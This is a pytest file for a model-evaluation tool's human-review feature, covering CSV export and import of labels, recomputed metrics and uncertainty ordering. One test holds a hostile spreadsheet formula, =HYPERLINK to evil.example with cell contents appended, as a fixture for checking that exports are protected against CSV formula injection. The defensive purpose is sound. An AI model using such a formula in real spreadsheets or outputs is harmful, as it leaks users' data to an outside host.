"""Human review round trip: scan, export, change labels, import, metrics recomputed from them,
and the store keeps both the judge's and the human's labels."""

import csv

import pytest
from typer.testing import CliRunner

from vlmtrust.cli.main import app
from vlmtrust.core.records import Score
from vlmtrust.review import export_review
from vlmtrust.store import ResultStore, StoredResult

runner = CliRunner()
TASK = "fairness.group_performance"


def _accuracy(rows):
    return next(r for r in rows if r.metric == "accuracy" and r.task == TASK)


def test_review_round_trip(tmp_path):
    run_dir = tmp_path / "run"
    scan = runner.invoke(
        app,
        [
            "scan",
            "--model",
            "zoo:clip",
            "--suite",
            TASK,
            "--limit",
            "20",
            "--out",
            str(run_dir),
            "--quiet",
        ],
    )
    assert scan.exit_code == 0, scan.output
    with ResultStore.open_existing(run_dir) as store:
        before = _accuracy(store.metrics())
    assert before.n == 20

    review = tmp_path / "review.csv"
    exported = runner.invoke(app, ["review", "export", str(run_dir), "--out", str(review)])
    assert exported.exit_code == 0, exported.output
    with review.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 20 and rows[0]["judge_label"] and rows[0]["model_output"]
    # a reviewer overturns five judgements and adds one note without a value
    for row in rows[:5]:
        row["human_value"] = str(1 - float(row["judge_value"]))
        row["human_label"] = "reviewed"
    rows[5]["human_label"] = "unsure"
    with review.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    delta = sum(1 - 2 * float(r["judge_value"]) for r in rows[:5])

    imported = runner.invoke(app, ["review", "import", str(review), str(run_dir)])
    assert imported.exit_code == 0, imported.output
    with ResultStore.open_existing(run_dir) as store:
        after = _accuracy(store.metrics())
        human = store.human_labels()
        judged = {s.sample_id: s.value for r in store.results_of(TASK) for s in r.scores}
    assert after.value == pytest.approx(before.value + delta / 20)
    assert after.details["label_source"] == {"human": 6, "judge": 14}
    # both sources kept: six human labels, and the judge's scores untouched
    assert len(human) == 6 and sum(h.value is not None for h in human.values()) == 5
    assert sum(judged.values()) == pytest.approx(before.value * 20)


def test_import_rejects_a_file_from_another_run(tmp_path):
    run_dir = tmp_path / "run"
    runner.invoke(
        app,
        [
            "scan",
            "--model",
            "zoo:clip",
            "--suite",
            TASK,
            "--limit",
            "4",
            "--out",
            str(run_dir),
            "--quiet",
        ],
    )
    bad = tmp_path / "bad.csv"
    bad.write_text("key,metric,human_label,human_value\nnot-a-key,correct,x,1\n")
    result = runner.invoke(app, ["review", "import", str(bad), str(run_dir)])
    assert result.exit_code == 2 and "does not hold" in result.stderr
    with ResultStore.open_existing(run_dir) as store:
        assert store.human_labels() == {}
    bad.write_text("key,metric,human_label,human_value\nk,correct,x,maybe\n")
    result = runner.invoke(app, ["review", "import", str(bad), str(run_dir)])
    assert result.exit_code == 2 and "not a number" in result.stderr


def test_export_keeps_spreadsheets_from_running_model_output(tmp_path):
    """A model's answer like ``=HYPERLINK(...)`` is written so a spreadsheet shows it as text,
    and the file still imports."""
    run_dir = tmp_path / "run"
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with ResultStore.in_dir(run_dir) as store:
        store.start_run("r1", {"tasks": [{"name": TASK, "params": {}}]})
        scores = (
            Score(sample_id="s1", metric="correct", value=0.0, details={"response": hostile}),
            Score(sample_id="s2", metric="correct", value=-1.5, details={"response": "@SUM(1)"}),
        )
        store.append(
            [
                StoredResult(
                    key=f"k{i}",
                    task=TASK,
                    attack="none",
                    mitigation="none",
                    model="m",
                    sample_id=s.sample_id,
                    scores=(s,),
                )
                for i, s in enumerate(scores)
            ]
        )
        store.finish_run("r1", "complete", {})
    review = tmp_path / "review.csv"
    assert export_review(run_dir, review) == 2
    with review.open(newline="") as handle:
        rows = {r["sample_id"]: r for r in csv.DictReader(handle)}
    assert rows["s1"]["model_output"] == "'" + hostile
    assert rows["s2"]["model_output"] == "'@SUM(1)"
    assert rows["s2"]["judge_value"] == "-1.5"  # numbers stay numbers
    for row in rows.values():
        assert not row["model_output"].startswith(("=", "+", "-", "@"))


def test_uncertainty_order_puts_first_what_the_judge_was_least_sure_of(tmp_path):
    """Active learning: undecided, then a judge probability nearest its threshold, then a
    fractional value nearest 0.5, then the plainly decided; the affected order differs."""
    from vlmtrust.cli.main import ReviewOrder
    from vlmtrust.review import ORDERS
    from vlmtrust.scorers.toxicity import threshold

    t = threshold()
    scores = (
        Score(sample_id="decided", metric="toxic", value=1.0),
        Score(sample_id="far", metric="toxic", value=0.0, details={"p_toxic": max(0.0, t - 0.4)}),
        Score(sample_id="half", metric="toxic", value=0.45),
        Score(sample_id="near", metric="toxic", value=1.0, details={"p_toxic": t + 0.05}),
        Score.cannot_score("undecided", "toxic", "too close to call"),
    )
    run_dir = tmp_path / "run"
    with ResultStore.in_dir(run_dir) as store:
        store.start_run("r1", {"tasks": [{"name": TASK, "params": {}}]})
        store.append(
            [
                StoredResult(
                    key=f"k{i}", task=TASK, attack="none", mitigation="none", model="m",
                    sample_id=s.sample_id, scores=(s,),
                )
                for i, s in enumerate(scores)
            ]
        )  # fmt: skip
        store.finish_run("r1", "complete", {})

    def exported(*order):
        review = tmp_path / "review.csv"
        result = runner.invoke(
            app, ["review", "export", str(run_dir), "--out", str(review), *order]
        )
        assert result.exit_code == 0, result.output
        with review.open(newline="") as handle:
            return [r["sample_id"] for r in csv.DictReader(handle)]

    assert exported("--order", "uncertainty") == ["undecided", "near", "far", "half", "decided"]
    assert exported() == ["undecided", "decided", "near", "half", "far"]
    assert {o.value for o in ReviewOrder} == set(ORDERS)  # the CLI offers every order
    bad = runner.invoke(app, ["review", "export", str(run_dir), "--out", "x.csv", "--order", "x"])
    assert bad.exit_code == 2
